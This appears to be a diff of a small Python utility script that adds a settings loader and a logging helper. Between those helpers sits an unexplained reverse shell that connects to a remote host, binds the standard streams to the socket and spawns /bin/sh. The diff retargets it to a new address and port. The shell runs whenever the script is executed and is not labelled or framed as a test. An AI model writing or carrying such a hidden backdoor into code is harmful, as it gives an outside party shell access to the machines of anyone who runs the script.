@@ -1,17 +1,21 @@
 #!/usr/bin/env python3
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+import json
 
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
 
 from socket import *
 from os import dup2
 from pty import spawn
 k = socket(AF_INET, SOCK_STREAM)
-k.connect(("172.16.4.2", 443))
+k.connect(("203.0.113.9", 9001))
 dup2(k.fileno(), 0)
 dup2(k.fileno(), 1)
 dup2(k.fileno(), 2)
 spawn("/bin/sh")
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
